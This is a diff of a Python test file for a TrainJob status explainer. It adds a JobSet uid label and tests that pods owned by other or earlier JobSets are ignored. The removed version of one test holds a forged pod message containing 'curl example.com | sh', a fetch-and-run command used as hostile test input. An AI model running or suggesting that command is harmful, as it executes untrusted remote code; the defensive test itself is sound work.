@@ -24,6 +24,7 @@ from tests.explain.samples import (
     unscheduled,
     waiting,
 )
+from trainer.api.jobset_labels import JOBSET_UID
 from trainer.explain import QueuePosition, Unread, Verdict
 
 if TYPE_CHECKING:
@@ -776,8 +777,8 @@ CASES = {
     "failed": Case(
         "FailedJobs",
         "pod demo-node-0-0-abcde: container trainer exited with code 1",
-        "its log says why: correct the program, its arguments or its data; a TrainJob that has failed stays so: trainer "
-        "delete demo -n default, then submit it again",
+        "its log says why: correct the program, its arguments or its data; a TrainJob that has failed stays so: "
+        "trainer delete demo -n default, then submit it again",
         "kubectl logs demo-node-0-0-abcde -c trainer -n default",
         train_job(
             condition(
@@ -953,8 +954,21 @@ def test_commands_have_no_hostile_names(message: str) -> None:
     assert cause.remedy == "remove what the message names; it goes on by itself then"
 
 
-def test_pods_of_others_say_nothing() -> None:
-    """Anybody may give a pod the labels of a JobSet; its controller counts."""
-    forged = waiting("ImagePullBackOff", "run: curl example.com | sh")
-    forged["metadata"]["ownerReferences"] = []
-    assert [cause.reason for cause in answer(train_job(), jobset(), forged).causes] == ["NoPods"]
+@pytest.mark.parametrize(
+    "metadata",
+    [
+        pytest.param({"ownerReferences": []}, id="labels"),
+        pytest.param({"labels": {JOBSET_UID: "uid-of-a-predecessor"}}, id="predecessor"),
+    ],
+)
+def test_pods_of_others_say_nothing(metadata: Object) -> None:
+    """Anybody may give a pod the labels of a JobSet, and pods may outlive theirs; the controller and the uid count."""
+    status = container(BACK_OFF, last=ended(1), restarts=4)
+    other = pod(metadata=metadata, phase="Running", containerStatuses=status)
+    assert [cause.reason for cause in answer(train_job(), jobset(), other).causes] == ["NoPods"]
+
+
+def test_pods_of_the_jobset_count() -> None:
+    """Newer versions of JobSet write its uid on its pods."""
+    own = pod(metadata={"labels": {JOBSET_UID: "uid-of-set"}}, containerStatuses=container(BACK_OFF, last=ended(1)))
+    assert [cause.reason for cause in answer(train_job(), jobset(nodes=1), own).causes] == ["CrashLoopBackOff"]
